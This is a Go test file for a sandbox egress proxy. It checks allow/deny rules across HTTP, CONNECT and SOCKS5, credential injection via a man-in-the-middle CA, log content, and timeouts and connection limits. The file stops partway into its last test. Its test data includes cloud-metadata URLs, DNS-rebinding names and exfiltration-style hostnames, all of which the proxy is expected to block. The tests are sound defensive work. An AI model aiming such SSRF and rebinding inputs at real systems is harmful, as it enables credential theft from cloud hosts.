package egress

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"go.uber.org/goleak"
	"golang.org/x/net/proxy"
)

// Every test here uses real sockets on loopback only. Names are pinned or
// answered by testResolver; nothing is looked up in real DNS.

type testResolver struct {
	names   map[string][]netip.Addr
	lookups atomic.Int64
}

func (r *testResolver) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	r.lookups.Add(1)
	if a, ok := r.names[host]; ok {
		return a, nil
	}
	return nil, &net.DNSError{Err: "no such host (test resolver)", Name: host, IsNotFound: true}
}

// syncBuffer is the egress log.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// entries parses the log, failing on any line that is not JSON.
func (s *syncBuffer) entries(t *testing.T) []map[string]any {
	t.Helper()
	var out []map[string]any
	for _, line := range strings.Split(strings.TrimSuffix(s.String(), "\n"), "\n") {
		if line == "" {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatalf("log line is not JSON: %q: %v", line, err)
		}
		out = append(out, m)
	}
	return out
}

// dialRecorder is Policy.Dial: it records every address dialled, can send one
// address elsewhere (port 443 to a test server's port), and refuses to dial
// anything but 127.0.0.1, so that even a broken proxy sends no test traffic
// off this host.
type dialRecorder struct {
	mu       sync.Mutex
	dialed   []string
	redirect map[string]string
}

func (d *dialRecorder) dial(ctx context.Context, network, addr string) (net.Conn, error) {
	d.mu.Lock()
	d.dialed = append(d.dialed, addr)
	to, ok := d.redirect[addr]
	d.mu.Unlock()
	if ok {
		addr = to
	}
	if ap, err := netip.ParseAddrPort(addr); err != nil || ap.Addr() != netip.MustParseAddr("127.0.0.1") {
		return nil, fmt.Errorf("test dialer: refusing to dial %s, which is not on loopback", addr)
	}
	var nd net.Dialer
	return nd.DialContext(ctx, network, addr)
}

func (d *dialRecorder) addrs() []string {
	d.mu.Lock()
	defer d.mu.Unlock()
	return append([]string(nil), d.dialed...)
}

type env struct {
	p     *Proxy
	c     *Call
	addr  string // the proxy's listener
	log   *syncBuffer
	res   *testResolver
	dials *dialRecorder
}

// start runs a proxy for one call on a loopback listener. rules are --allow
// arguments; pins are NAME=IP.
func start(t *testing.T, pol Policy, rules []string, pins ...string) *env {
	t.Helper()
	e := &env{log: &syncBuffer{}, res: &testResolver{names: map[string][]netip.Addr{}}, dials: &dialRecorder{redirect: map[string]string{}}}
	for _, s := range rules {
		pol.Allow = append(pol.Allow, mustRule(t, s))
	}
	if len(pins) > 0 {
		pol.Resolve = map[string]netip.Addr{}
	}
	for _, s := range pins {
		n, ip, err := ParseResolve(s)
		if err != nil {
			t.Fatal(err)
		}
		pol.Resolve[n] = ip
	}
	if pol.Resolver == nil {
		pol.Resolver = e.res
	}
	if pol.Dial == nil {
		pol.Dial = e.dials.dial
	}
	pol.Log = e.log
	pol.Session = "sess-1"
	p, err := New(pol)
	if err != nil {
		t.Fatal(err)
	}
	e.p = p
	e.c = p.Call("call-1")
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	e.addr = l.Addr().String()
	done := make(chan error, 1)
	go func() { done <- e.c.Serve(l) }()
	t.Cleanup(func() {
		_ = p.Close()
		if err := <-done; err != nil {
			t.Errorf("Serve returned %v after Close, want nil", err)
		}
	})
	return e
}

// httpClient sends requests through the proxy as http_proxy/https_proxy would.
func (e *env) httpClient(t *testing.T, roots *x509.CertPool, serverName string) *http.Client {
	t.Helper()
	u, _ := url.Parse("http://" + e.addr)
	tr := &http.Transport{
		Proxy:             http.ProxyURL(u),
		TLSClientConfig:   &tls.Config{RootCAs: roots, ServerName: serverName},
		DisableKeepAlives: true,
	}
	t.Cleanup(tr.CloseIdleConnections)
	return &http.Client{Transport: tr, Timeout: 30 * time.Second}
}

func get(t *testing.T, c *http.Client, u string, hdr ...string) (int, string) {
	t.Helper()
	req, err := http.NewRequest("GET", u, nil)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatalf("GET %s: %v", u, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// upstream is a test destination that records what reached it.
type upstream struct {
	*httptest.Server
	port  string
	hits  atomic.Int64
	mu    sync.Mutex
	heads []http.Header
}

func newUpstream(t *testing.T, tlsToo bool) *upstream {
	t.Helper()
	u := &upstream{}
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		u.hits.Add(1)
		u.mu.Lock()
		u.heads = append(u.heads, r.Header.Clone())
		u.mu.Unlock()
		_, _ = io.Copy(io.Discard, r.Body)
		fmt.Fprintf(w, "hello from %s", r.Host)
	})
	u.Server = httptest.NewUnstartedServer(h)
	u.Config.ErrorLog = discardLog // a client refusing a certificate is part of some tests
	if tlsToo {
		u.StartTLS()
	} else {
		u.Start()
	}
	t.Cleanup(u.Close)
	_, u.port, _ = net.SplitHostPort(u.Listener.Addr().String())
	return u
}

func (u *upstream) lastHeader() http.Header {
	u.mu.Lock()
	defer u.mu.Unlock()
	if len(u.heads) == 0 {
		return nil
	}
	return u.heads[len(u.heads)-1]
}

func TestHTTPAllowAndDeny(t *testing.T) {
	up := newUpstream(t, false)
	e := start(t, Policy{}, []string{"up.test:" + up.port}, "up.test=127.0.0.1", "other.test=127.0.0.1")
	c := e.httpClient(t, nil, "")

	code, body := get(t, c, "http://up.test:"+up.port+"/x")
	if code != 200 || body != "hello from up.test:"+up.port {
		t.Fatalf("allowed GET: %d %q", code, body)
	}
	code, body = get(t, c, "http://other.test:"+up.port+"/x")
	want := "sandbash: egress to other.test:" + up.port + " denied: no --allow rule matches (add --allow other.test:" + up.port + ")"
	if code != http.StatusForbidden || !strings.Contains(body, want) {
		t.Fatalf("denied GET: %d %q, want 403 with %q", code, body, want)
	}
	// A denied request did not reach the destination; the allowed one did, once.
	if n := up.hits.Load(); n != 1 {
		t.Errorf("upstream saw %d requests, want 1", n)
	}
	if d := e.c.Denied(); len(d) != 1 || d[0] != "other.test:"+up.port {
		t.Errorf("Denied() = %q", d)
	}
	// A request that is not a proxy request is refused, and says what the proxy is.
	resp, err := http.Get("http://" + e.addr + "/")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 400 || !strings.Contains(string(b), "egress proxy") {
		t.Errorf("plain request to the proxy: %d %q", resp.StatusCode, b)
	}
	// Every connection ended (no keep-alive), so the call holds none, nor any slot.
	waitIdle(t, e)
}

// waitIdle waits until the call tracks no client connection and holds no
// slot (idle upstream connections may stay pooled).
func waitIdle(t *testing.T, e *env) {
	t.Helper()
	http.DefaultTransport.(*http.Transport).CloseIdleConnections()
	for i := 0; ; i++ {
		e.c.mu.Lock()
		n := 0
		for c := range e.c.conns {
			if _, ok := c.(*clientConn); ok {
				n++
			}
		}
		e.c.mu.Unlock()
		if n == 0 && len(e.p.slots) == 0 {
			return
		}
		if i == 3000 {
			t.Fatalf("the call still tracks %d client connections and holds %d slots", n, len(e.p.slots))
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func TestConnectAllowAndDeny(t *testing.T) {
	up := newUpstream(t, true)
	roots := x509.NewCertPool()
	roots.AddCert(up.Certificate())
	e := start(t, Policy{}, []string{"up.test:" + up.port}, "up.test=127.0.0.1")
	c := e.httpClient(t, roots, "example.com") // the httptest certificate's name

	code, body := get(t, c, "https://up.test:"+up.port+"/")
	if code != 200 || !strings.HasPrefix(body, "hello from") {
		t.Fatalf("allowed CONNECT: %d %q", code, body)
	}
	req, _ := http.NewRequest("GET", "https://nope.test/", nil)
	_, err := c.Do(req)
	if err == nil || !strings.Contains(err.Error(), "Forbidden") {
		t.Fatalf("denied CONNECT: err %v, want a 403", err)
	}
	// The 403 body names the destination and the flag: read it with a raw CONNECT.
	code, body = rawConnect(t, e.addr, "nope.test:443")
	if code != 403 || !strings.Contains(body, "egress to nope.test:443 denied") || !strings.Contains(body, "--allow nope.test)") {
		t.Fatalf("raw denied CONNECT: %d %q", code, body)
	}
	if got := e.c.Denied(); len(got) != 1 || got[0] != "nope.test:443" {
		t.Errorf("Denied() = %q, want [nope.test:443] once", got)
	}
	if e.res.lookups.Load() != 0 {
		t.Errorf("the proxy looked up %d names; pinned and denied names need none", e.res.lookups.Load())
	}
}

// rawConnect sends a CONNECT and returns the status and body.
func rawConnect(t *testing.T, proxyAddr, target string) (int, string) {
	t.Helper()
	conn, err := net.Dial("tcp", proxyAddr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("CONNECT %s: %v", target, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

func TestSOCKS5AllowAndDeny(t *testing.T) {
	up := newUpstream(t, false)
	e := start(t, Policy{}, []string{"up.test:" + up.port}, "up.test=127.0.0.1")
	d, err := proxy.SOCKS5("tcp", e.addr, nil, proxy.Direct)
	if err != nil {
		t.Fatal(err)
	}
	tr := &http.Transport{DialContext: d.(proxy.ContextDialer).DialContext, DisableKeepAlives: true}
	defer tr.CloseIdleConnections()
	c := &http.Client{Transport: tr}
	code, body := get(t, c, "http://up.test:"+up.port+"/")
	if code != 200 || body != "hello from up.test:"+up.port {
		t.Fatalf("allowed SOCKS5: %d %q", code, body)
	}
	if _, err := d.Dial("tcp", "other.test:"+up.port); err == nil {
		t.Fatal("SOCKS5 to a destination without a rule succeeded")
	}
	if rep := socksConnect(t, e.addr, 0x01, "other.test", 80); rep != 0x02 {
		t.Errorf("denied SOCKS5 CONNECT replied %#x, want 0x02 (not allowed by ruleset)", rep)
	}
	if rep := socksConnect(t, e.addr, 0x02, "up.test", 80); rep != 0x07 {
		t.Errorf("SOCKS5 BIND replied %#x, want 0x07 (command not supported)", rep)
	}
	if rep := socksConnect(t, e.addr, 0x03, "up.test", 80); rep != 0x07 {
		t.Errorf("SOCKS5 UDP ASSOCIATE replied %#x, want 0x07 (command not supported)", rep)
	}
	if got := e.c.Denied(); len(got) != 2 || got[0] != "other.test:"+up.port || got[1] != "other.test:80" {
		t.Errorf("Denied() = %q", got)
	}
}

// socksConnect speaks SOCKS5 by hand and returns the reply code.
func socksConnect(t *testing.T, proxyAddr string, cmd byte, host string, port int) byte {
	t.Helper()
	conn, err := net.Dial("tcp", proxyAddr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(30 * time.Second))
	if _, err := conn.Write([]byte{5, 1, 0}); err != nil {
		t.Fatal(err)
	}
	var m [2]byte
	if _, err := io.ReadFull(conn, m[:]); err != nil || m != [2]byte{5, 0} {
		t.Fatalf("SOCKS5 method reply %v, %v", m, err)
	}
	req := []byte{5, cmd, 0, 3, byte(len(host))}
	req = append(req, host...)
	req = binary.BigEndian.AppendUint16(req, uint16(port))
	if _, err := conn.Write(req); err != nil {
		t.Fatal(err)
	}
	var rep [10]byte
	if _, err := io.ReadFull(conn, rep[:]); err != nil {
		t.Fatalf("SOCKS5 reply: %v", err)
	}
	return rep[1]
}

func TestAlwaysDeniedWhateverTheRules(t *testing.T) {
	e := start(t, Policy{}, []string{"0.0.0.0/0", "::/0", "meta.test", "metadata.test:80"})
	e.res.names["meta.test"] = []netip.Addr{netip.MustParseAddr("169.254.169.254")}
	e.res.names["metadata.test"] = []netip.Addr{netip.MustParseAddr("::ffff:169.254.169.254"), netip.MustParseAddr("fd00:ec2::254")}
	c := e.httpClient(t, nil, "")
	for _, u := range []string{
		"http://169.254.169.254/latest/meta-data/",
		"http://[::ffff:169.254.169.254]/",
		"http://[::ffff:a9fe:a9fe]/",
		"http://[64:ff9b::a9fe:a9fe]/",
		"http://[fd00:ec2::254]/",
		"http://[fe80::1]/",
		"http://0.0.0.0/",
		"http://[::]/",
		"http://meta.test/",
		"http://metadata.test/",
	} {
		code, body := get(t, c, u)
		if code != http.StatusForbidden || !strings.Contains(body, "always denied and no rule can allow it") {
			t.Errorf("GET %s: %d %q, want 403 always denied", u, code, body)
		}
	}
	if rep := socksConnect(t, e.addr, 1, "meta.test", 80); rep != 0x02 {
		t.Errorf("SOCKS5 to metadata replied %#x, want 0x02", rep)
	}
	if code, body := rawConnect(t, e.addr, "169.254.169.254:443"); code != 403 || !strings.Contains(body, "always denied") {
		t.Errorf("CONNECT to metadata: %d %q", code, body)
	}
	if d := e.dials.addrs(); len(d) != 0 {
		t.Errorf("the proxy dialled %q", d)
	}
}

func TestRebindingNameRuleCannotReachPrivateAddress(t *testing.T) {
	up := newUpstream(t, false)
	e := start(t, Policy{}, []string{"rebind.test:" + up.port, "pinned.test:" + up.port}, "pinned.test=127.0.0.1")
	// DNS says rebind.test is 127.0.0.1: a rule for the name does not make loopback reachable.
	e.res.names["rebind.test"] = []netip.Addr{netip.MustParseAddr("127.0.0.1")}
	c := e.httpClient(t, nil, "")
	code, body := get(t, c, "http://rebind.test:"+up.port+"/")
	if code != http.StatusForbidden || !strings.Contains(body, "rebind.test resolves to 127.0.0.1, loopback") ||
		!strings.Contains(body, "--resolve rebind.test=127.0.0.1") || !strings.Contains(body, "--allow 127.0.0.1:"+up.port) {
		t.Fatalf("rebinding GET: %d %q", code, body)
	}
	if rep := socksConnect(t, e.addr, 1, "rebind.test", mustAtoi(t, up.port)); rep != 0x02 {
		t.Errorf("rebinding via SOCKS5 replied %#x, want 0x02", rep)
	}
	if code, _ := rawConnect(t, e.addr, "rebind.test:"+up.port); code != 403 {
		t.Errorf("rebinding via CONNECT: %d, want 403", code)
	}
	if n := up.hits.Load(); n != 0 {
		t.Fatalf("the loopback upstream was reached %d times", n)
	}
	// Control: the same address, pinned with --resolve, is reachable.
	if code, _ := get(t, c, "http://pinned.test:"+up.port+"/"); code != 200 {
		t.Fatalf("pinned GET: %d, want 200", code)
	}
	// And so is a literal rule for the address.
	e2 := start(t, Policy{}, []string{"127.0.0.1:" + up.port})
	if code, _ := get(t, e2.httpClient(t, nil, ""), "http://127.0.0.1:"+up.port+"/"); code != 200 {
		t.Fatalf("GET with a literal rule: %d, want 200", code)
	}
	// A pin of another name does not leak to this one, and private IP literals
	// need a rule naming them.
	code, body = get(t, c, "http://127.0.0.1:"+up.port+"/")
	if code != 403 || !strings.Contains(body, "(add --allow 127.0.0.1:"+up.port+")") {
		t.Fatalf("GET of a loopback literal without a rule: %d %q", code, body)
	}
}

func mustAtoi(t *testing.T, s string) int {
	n, err := strconv.Atoi(s)
	if err != nil {
		t.Fatal(err)
	}
	return n
}

func TestOwnAddressNeedsALiteralRule(t *testing.T) {
	e := start(t, Policy{}, []string{"own.test"})
	own := netip.MustParseAddr("203.0.113.7") // TEST-NET-3: never dialled, the check refuses it first
	e.p.own[own] = true
	e.res.names["own.test"] = []netip.Addr{own}
	code, body := get(t, e.httpClient(t, nil, ""), "http://own.test/")
	if code != 403 || !strings.Contains(body, "an address of this host") {
		t.Fatalf("GET of a name resolving to this host: %d %q", code, body)
	}
	if d := e.dials.addrs(); len(d) != 0 {
		t.Errorf("the proxy dialled %q", d)
	}
}

func TestDeniedNamesAreNotLookedUp(t *testing.T) {
	e := start(t, Policy{}, []string{"allowed.test"})
	c := e.httpClient(t, nil, "")
	for _, h := range []string{"secret-data.exfil.test", "another.exfil.test"} {
		if code, _ := get(t, c, "http://"+h+"/"); code != 403 {
			t.Fatalf("GET %s: %d, want 403", h, code)
		}
	}
	_ = socksConnect(t, e.addr, 1, "more.exfil.test", 443)
	if n := e.res.lookups.Load(); n != 0 {
		t.Fatalf("the proxy made %d DNS lookups for names no rule allows", n)
	}
	// Control: an allowed name is looked up.
	_, _ = get(t, c, "http://allowed.test/")
	if n := e.res.lookups.Load(); n != 1 {
		t.Fatalf("lookups = %d after an allowed name, want 1", n)
	}
}

// credEnv serves example.com (the httptest certificate's name) on a TLS
// upstream, pinned to loopback, with port 443 redirected to the server.
func credEnv(t *testing.T, extra ...string) (*env, *upstream, *x509.CertPool) {
	t.Helper()
	up := newUpstream(t, true)
	upRoots := x509.NewCertPool()
	upRoots.AddCert(up.Certificate())
	const secret = "Bearer s3cr3t-t0ken"
	cred, err := ParseCredential("example.com=Authorization:env:TOKEN", func(k string) string {
		if k == "TOKEN" {
			return secret
		}
		return ""
	})
	if err != nil {
		t.Fatal(err)
	}
	pins := append([]string{"example.com=127.0.0.1"}, extra...)
	e := start(t, Policy{Credentials: []Credential{cred}, RootCAs: upRoots},
		[]string{"example.com", "plain.test", "up.test:" + up.port}, pins...)
	e.dials.redirect["127.0.0.1:443"] = up.Listener.Addr().String()
	e.dials.redirect["127.0.0.1:80"] = up.Listener.Addr().String()
	return e, up, upRoots
}

func TestCredentialInjectedOverMITM(t *testing.T) {
	e, up, _ := credEnv(t)
	caPEM := e.p.CACertPEM()
	if !bytes.Contains(caPEM, []byte("BEGIN CERTIFICATE")) || bytes.Contains(caPEM, []byte("PRIVATE")) {
		t.Fatalf("CACertPEM = %q", caPEM)
	}
	roots := x509.NewCertPool()
	if !roots.AppendCertsFromPEM(caPEM) {
		t.Fatal("CACertPEM does not parse")
	}
	c := e.httpClient(t, roots, "")
	// The client sends its own Authorization; the proxy replaces it.
	code, body := get(t, c, "https://example.com/api", "Authorization", "Bearer from-the-sandbox")
	if code != 200 || body != "hello from example.com" {
		t.Fatalf("GET through MITM: %d %q", code, body)
	}
	// Inside the tunnel the Host header cannot send the request (and the
	// credential) to another virtual host: the CONNECT's host wins.
	req, _ := http.NewRequest("GET", "https://example.com/api", nil)
	req.Host = "other.test"
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if string(b) != "hello from example.com" {
		t.Fatalf("GET with Host: other.test through MITM reached %q", b)
	}
	h := up.lastHeader()
	if got := h.Values("Authorization"); len(got) != 1 || got[0] != "Bearer s3cr3t-t0ken" {
		t.Fatalf("upstream saw Authorization %q, want only the credential", got)
	}
	// The credential is nowhere in the log, and the log says a header was added.
	e.c.Close() // log lines are written when connections end
	if strings.Contains(e.log.String(), "s3cr3t") {
		t.Fatalf("the log shows the credential: %s", e.log.String())
	}
	var saw bool
	for _, m := range e.log.entries(t) {
		if m["proto"] == "connect" && m["host"] == "example.com" && m["credential"] == "Authorization" && m["decision"] == "allow" {
			saw = true
			if m["bytes_down"].(float64) == 0 {
				t.Errorf("MITM log line has no bytes: %v", m)
			}
		}
	}
	if !saw {
		t.Errorf("no log line for the MITM'd CONNECT: %s", e.log.String())
	}
}

func TestCredentialOnPlainHTTP(t *testing.T) {
	e, up, _ := credEnv(t)
	// Plain HTTP to the credential host: port 80 is redirected to the TLS
	// upstream, so use a plain server on its own port instead.
	plain := newUpstream(t, false)
	e.dials.redirect["127.0.0.1:80"] = plain.Listener.Addr().String()
	code, _ := get(t, e.httpClient(t, nil, ""), "http://example.com/")
	if code != 200 {
		t.Fatalf("GET http://example.com/: %d", code)
	}
	if got := plain.lastHeader().Get("Authorization"); got != "Bearer s3cr3t-t0ken" {
		t.Fatalf("plain upstream saw Authorization %q", got)
	}
	_ = up
}

func TestNonCredentialHostIsTunnelledUntouched(t *testing.T) {
	e, up, upRoots := credEnv(t, "plain.test=127.0.0.1")
	// plain.test has no credential: CONNECT is a blind tunnel, and the client
	// sees the upstream's own certificate, which it verifies itself.
	conn, err := net.Dial("tcp", e.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(30 * time.Second))
	fmt.Fprintf(conn, "CONNECT plain.test:443 HTTP/1.1\r\nHost: plain.test:443\r\n\r\n")
	br := bufio.NewReader(conn)
	resp, err := http.ReadResponse(br, nil)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("CONNECT plain.test:443: %v %v", resp, err)
	}
	tc := tls.Client(conn, &tls.Config{RootCAs: upRoots, ServerName: "example.com"})
	if err := tc.Handshake(); err != nil {
		t.Fatalf("TLS through the tunnel: %v", err)
	}
	if got := tc.ConnectionState().PeerCertificates[0]; !got.Equal(up.Certificate()) {
		t.Fatalf("the client saw %q, not the upstream's own certificate", got.Subject)
	}
	fmt.Fprintf(tc, "GET / HTTP/1.1\r\nHost: plain.test\r\nAuthorization: mine\r\nConnection: close\r\n\r\n")
	resp, err = http.ReadResponse(bufio.NewReader(tc), nil)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("GET through the tunnel: %v %v", resp, err)
	}
	resp.Body.Close()
	if got := up.lastHeader().Get("Authorization"); got != "mine" {
		t.Fatalf("upstream saw Authorization %q through a blind tunnel, want the client's own", got)
	}
}

func TestMITMUpstreamIsVerified(t *testing.T) {
	// The proxy does not trust the upstream's certificate (no RootCAs for it):
	// the request fails with a 502 that says why, and no credential is sent.
	up := newUpstream(t, true)
	cred, _ := ParseCredential("example.com=Authorization:env:T", func(string) string { return "Bearer x" })
	e := start(t, Policy{Credentials: []Credential{cred}, RootCAs: x509.NewCertPool()}, []string{"example.com"}, "example.com=127.0.0.1")
	e.dials.redirect["127.0.0.1:443"] = up.Listener.Addr().String()
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(e.p.CACertPEM())
	code, body := get(t, e.httpClient(t, roots, ""), "https://example.com/")
	if code != http.StatusBadGateway || !strings.Contains(body, "certificate") {
		t.Fatalf("GET with an untrusted upstream: %d %q", code, body)
	}
	if up.hits.Load() != 0 {
		t.Fatal("the untrusted upstream got the request")
	}
}

func TestCredentialNeedsAnAllowRule(t *testing.T) {
	cred, _ := ParseCredential("api.test=Authorization:env:T", func(string) string { return "x" })
	_, err := New(Policy{Credentials: []Credential{cred}, Allow: []Rule{mustRule(t, "other.test")}})
	if !errors.Is(err, ErrBadCredential) || !strings.Contains(err.Error(), "allow api.test") {
		t.Fatalf("New with a credential for a host no rule allows: %v", err)
	}
	if _, err := New(Policy{Credentials: []Credential{{Host: "x.test", Header: "A"}}}); !errors.Is(err, ErrBadCredential) {
		t.Fatalf("New with a credential not made by ParseCredential: %v", err)
	}
	if _, err := New(Policy{Allow: []Rule{{}}}); !errors.Is(err, ErrBadRule) {
		t.Fatalf("New with a zero Rule: %v", err)
	}
}

func TestLogLines(t *testing.T) {
	up := newUpstream(t, false)
	e := start(t, Policy{}, []string{"up.test:" + up.port}, "up.test=127.0.0.1")
	c := e.httpClient(t, nil, "")
	resp, err := c.Post("http://up.test:"+up.port+"/", "text/plain", strings.NewReader("twelve bytes"))
	if err != nil {
		t.Fatal(err)
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	_, _ = get(t, c, "http://denied.test/")
	e.c.Close()
	lines := e.log.entries(t)
	if len(lines) != 2 {
		t.Fatalf("log has %d lines, want 2: %s", len(lines), e.log.String())
	}
	for _, m := range lines {
		for _, k := range []string{"time", "session", "call", "proto", "host", "port", "ip", "decision", "rule", "bytes_up", "bytes_down"} {
			if _, ok := m[k]; !ok {
				t.Errorf("log line has no %q: %v", k, m)
			}
		}
		if _, err := time.Parse(time.RFC3339Nano, m["time"].(string)); err != nil {
			t.Errorf("time %v: %v", m["time"], err)
		}
		if m["session"] != "sess-1" || m["call"] != "call-1" {
			t.Errorf("session/call = %v/%v", m["session"], m["call"])
		}
	}
	a, d := lines[0], lines[1]
	if a["decision"] != "allow" || a["proto"] != "http" || a["host"] != "up.test" || a["ip"] != "127.0.0.1" ||
		a["rule"] != "up.test:"+up.port || a["bytes_up"].(float64) != 12 || a["bytes_down"].(float64) != float64(len("hello from up.test:"+up.port)) {
		t.Errorf("allow line: %v", a)
	}
	if d["decision"] != "deny" || d["host"] != "denied.test" || d["port"].(float64) != 80 || d["rule"] != "no matching allow rule" {
		t.Errorf("deny line: %v", d)
	}
}

func TestDeniedListsDistinctDestinationsInOrder(t *testing.T) {
	e := start(t, Policy{}, nil)
	c := e.httpClient(t, nil, "")
	for _, u := range []string{"http://b.test/", "http://a.test/", "http://b.test/again", "http://a.test:8080/", "http://B.TEST./"} {
		_, _ = get(t, c, u)
	}
	_ = socksConnect(t, e.addr, 1, "c.test", 22)
	_, _ = rawConnect(t, e.addr, "[2001:db8::1]:443")
	want := []string{"b.test:80", "a.test:80", "a.test:8080", "c.test:22", "[2001:db8::1]:443"}
	if got := e.c.Denied(); fmt.Sprint(got) != fmt.Sprint(want) {
		t.Fatalf("Denied() = %q, want %q", got, want)
	}
}

func TestSlowHeadersAreCut(t *testing.T) {
	e := start(t, Policy{HeaderTimeout: 300 * time.Millisecond}, []string{"up.test"})
	for _, tc := range []struct {
		name    string
		first   []byte // sent at once
		trickle byte   // then sent a byte at a time, as slowloris does (0: nothing)
		every   time.Duration
	}{
		// An endless header line.
		{"http", []byte("GET http://up.test/ HTTP/1.1\r\nX-Slow: "), 'x', 50 * time.Millisecond},
		// A SOCKS5 request for a 255-byte name, whose bytes take 38 s to come.
		{"socks5", []byte{5, 1, 0, 5, 1, 0, 3, 255}, 'a', 150 * time.Millisecond},
		// Nothing at all: not even the byte that tells the protocol.
		{"silent", nil, 0, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			conn, err := net.Dial("tcp", e.addr)
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close()
			if _, err := conn.Write(tc.first); err != nil {
				t.Fatal(err)
			}
			closed := make(chan error, 1)
			go func() {
				_, err := io.Copy(io.Discard, conn)
				closed <- err
			}()
			var tick <-chan time.Time
			if tc.trickle != 0 {
				tk := time.NewTicker(tc.every)
				defer tk.Stop()
				tick = tk.C
			}
			deadline := time.After(30 * time.Second)
			for {
				select {
				case <-closed:
					return // the proxy hung up
				case <-tick:
					_, _ = conn.Write([]byte{tc.trickle})
				case <-deadline:
					t.Fatal("the proxy kept a slow client for 30 s")
				}
			}
		})
	}
}

func TestIdleTunnelIsClosed(t *testing.T) {
	// An upstream that accepts and then says nothing.
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() { _, _ = io.Copy(io.Discard, c); c.Close() }()
		}
	}()
	port := l.Addr().(*net.TCPAddr).Port
	e2 := start(t, Policy{IdleTimeout: 300 * time.Millisecond}, []string{"127.0.0.1:" + strconv.Itoa(port)})
	conn, err := net.Dial("tcp", e2.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "CONNECT 127.0.0.1:%d HTTP/1.1\r\nHost: x\r\n\r\n", port)
	br := bufio.NewReader(conn)
	resp, err := http.ReadResponse(br, nil)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("CONNECT: %v %v", resp, err)
	}
	_ = conn.SetReadDeadline(time.Now().Add(30 * time.Second))
	_, err = br.ReadByte()
	if !errors.Is(err, io.EOF) {
		t.Fatalf("reading an idle tunnel: %v, want EOF (the proxy closes it)", err)
	}
}

func TestConnectionLimit(t *testing.T) {
	up := newUpstream(t, false)
	e := start(t, Policy{MaxConns: 2}, []string{"up.test:" + up.port}, "up.test=127.0.0.1")
	var held []net.Conn
	for i := 0; i < 2; i++ {
		c, err := net.Dial("tcp", e.addr)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		held = append(held, c)
	}
	// Beyond the limit: a 503 for HTTP (retrying until the two above are accepted).
	var code int
	var body string
	for i := 0; i < 300; i++ {
		code, body = rawGet(t, e.addr, "http://up.test:"+up.port+"/")
		if code == 503 {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if code != 503 || !strings.Contains(body, "busy") {
		t.Fatalf("a request beyond the limit: %d %q, want 503 busy", code, body)
	}
	// and a refusal for SOCKS5: no acceptable method.
	conn, err := net.Dial("tcp", e.addr)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = conn.Write([]byte{5, 1, 0})
	var m [2]byte
	_, err = io.ReadFull(conn, m[:])
	conn.Close()
	if err != nil || m != [2]byte{5, 0xff} {
		t.Fatalf("SOCKS5 beyond the limit: %v %v, want 05 ff", m, err)
	}
	// Closing a held connection frees its slot.
	held[0].Close()
	for i := 0; i < 300; i++ {
		code, _ = rawGet(t, e.addr, "http://up.test:"+up.port+"/")
		if code == 200 {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if code != 200 {
		t.Fatalf("after freeing a slot: %d, want 200", code)
	}
}

func rawGet(t *testing.T, proxyAddr, u string) (int, string) {
	t.Helper()
	conn, err := net.Dial("tcp", proxyAddr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(30 * time.Second))
	fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", u)
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		return 0, err.Error()
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

func TestCloseEndsEverything(t *testing.T) {
	defer goleak.VerifyNone(t, goleak.IgnoreCurrent())
